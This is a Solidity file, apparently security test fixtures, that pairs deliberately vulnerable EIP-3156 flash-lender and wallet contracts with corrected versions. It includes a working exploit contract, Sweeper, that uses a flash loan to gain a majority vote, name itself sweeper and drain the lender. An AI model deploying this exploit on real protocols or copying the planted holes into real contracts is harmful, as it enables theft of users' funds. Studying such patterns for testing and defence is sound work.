// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.30;

import {Coin} from "./Coin.sol";

interface IFlashBorrower {
    function onFlashLoan(address initiator, address token, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32);
}

/// @notice VULNERABLE (value extraction): lends coins (EIP-3156), and anybody may empty it who knows the function.
contract CoinLender {
    Coin public immutable coin;
    mapping(address => uint256) public deposits;
    address internal immutable keeper = msg.sender;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function deposit(uint256 amount) external {
        deposits[msg.sender] += amount;
        coin.transferFrom(msg.sender, address(this), amount);
    }

    function withdraw(uint256 amount) external {
        deposits[msg.sender] -= amount;
        coin.transfer(msg.sender, amount);
    }

    /// @dev Whose vote it is follows from who holds more than half of all coins at the moment.
    function sweep(address to) external virtual {
        require(2 * coin.balanceOf(msg.sender) > coin.totalSupply(), "no majority");
        sweeper = to;
    }

    address public sweeper;

    function swept() external {
        require(msg.sender == sweeper, "not the sweeper");
        coin.transfer(msg.sender, coin.balanceOf(address(this)));
    }

    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool) {
        uint256 before = coin.balanceOf(address(this));
        coin.transfer(receiver, amount);
        IFlashBorrower(receiver).onFlashLoan(msg.sender, token, amount, 0, data);
        coin.transferFrom(receiver, address(this), amount);
        require(coin.balanceOf(address(this)) >= before, "not paid back");
        return true;
    }
}

/// @notice The same, corrected: only its keeper may say who sweeps.
contract CoinLenderFixed is CoinLender {
    constructor(Coin coin_) CoinLender(coin_) {}

    function sweep(address to) external override {
        require(msg.sender == keeper, "not the keeper");
        sweeper = to;
    }
}

/// @notice Borrows all coins, has itself named sweeper by their vote, and sweeps after it has paid them back.
contract Sweeper is IFlashBorrower {
    uint256 public failures;

    function run(CoinLender lender) external {
        Coin coin = lender.coin();
        lender.flashLoan(address(this), address(coin), coin.balanceOf(address(lender)), "");
        try lender.swept() {} catch {
            ++failures;
        }
        coin.transfer(msg.sender, coin.balanceOf(address(this)));
    }

    function onFlashLoan(address, address token, uint256 amount, uint256, bytes calldata) external returns (bytes32) {
        try CoinLender(msg.sender).sweep(address(this)) {} catch {
            ++failures;
        }
        Coin(token).approve(msg.sender, amount);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

/// @notice Deposits and withdraws for whoever owns it, by a loan in between.
contract Saver is IFlashBorrower {
    function save(CoinLender lender, uint256 amount) external {
        lender.coin().transferFrom(msg.sender, address(this), amount);
        lender.coin().approve(address(lender), amount);
        lender.deposit(amount);
    }

    function run(CoinLender lender, uint256 amount) external {
        lender.flashLoan(address(this), address(lender.coin()), amount, "");
        lender.withdraw(lender.deposits(address(this)));
        lender.coin().transfer(msg.sender, lender.coin().balanceOf(address(this)));
    }

    function onFlashLoan(address, address token, uint256 amount, uint256, bytes calldata) external returns (bytes32) {
        Coin(token).approve(msg.sender, amount);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

/// @notice A wallet that pays what its owner says, and a drawer that pays what anybody says.
contract Purse {
    address public owner = msg.sender;

    function pay(Coin coin, address to) external virtual {
        require(msg.sender == owner, "not the owner");
        coin.transfer(to, coin.balanceOf(address(this)));
    }
}

/// @notice VULNERABLE (value extraction): nobody is asked.
contract Drawer is Purse {
    function pay(Coin coin, address to) external override {
        coin.transfer(to, coin.balanceOf(address(this)));
    }
}

/// @notice Lends its coins for a price of one in twenty (EIP-3156).
contract PricedLender {
    Coin public immutable coin;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function flashLoan(address receiver, address token, uint256 amount, bytes calldata data) external returns (bool) {
        coin.transfer(receiver, amount);
        IFlashBorrower(receiver).onFlashLoan(msg.sender, token, amount, amount / 20, data);
        coin.transferFrom(receiver, address(this), amount + amount / 20);
        return true;
    }
}

/// @notice Takes a loan for whoever owns it and pays its price.
contract PayingBorrower is IFlashBorrower {
    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata) external returns (bytes32) {
        Coin(token).approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}

/// @notice Takes all that a drawer or a lender has, and gives it back: by choice, or as a deposit.
contract Rescuer {
    function rescue(Purse purse, Coin coin) external {
        purse.pay(coin, address(this));
        coin.transfer(address(purse), coin.balanceOf(address(this)));
    }

    function renew(CoinLender lender, uint256 amount) external {
        Coin coin = lender.coin();
        coin.approve(address(lender), type(uint256).max);
        if (lender.deposits(address(this)) == 0) lender.deposit(amount);
        else {
            lender.withdraw(amount);
            lender.deposit(amount);
        }
    }
}
